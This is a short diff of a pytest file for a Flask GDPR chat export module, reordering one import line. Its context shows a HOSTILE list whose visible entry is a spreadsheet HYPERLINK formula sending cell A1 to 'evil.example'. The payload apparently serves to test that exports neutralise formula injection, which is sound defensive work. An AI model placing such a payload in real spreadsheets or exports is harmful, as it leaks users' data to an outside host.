@@ -10,9 +10,9 @@ import pytest
 from sqlalchemy import insert, select
 
 from flask_gdprchat.core import signals
-from flask_gdprchat.rights.export import export_bytes, neutralise_cell, xml_safe
 from flask_gdprchat.core.models import AuditEvent, Message, SubjectRequest
 from flask_gdprchat.core.state import session
+from flask_gdprchat.rights.export import export_bytes, neutralise_cell, xml_safe
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
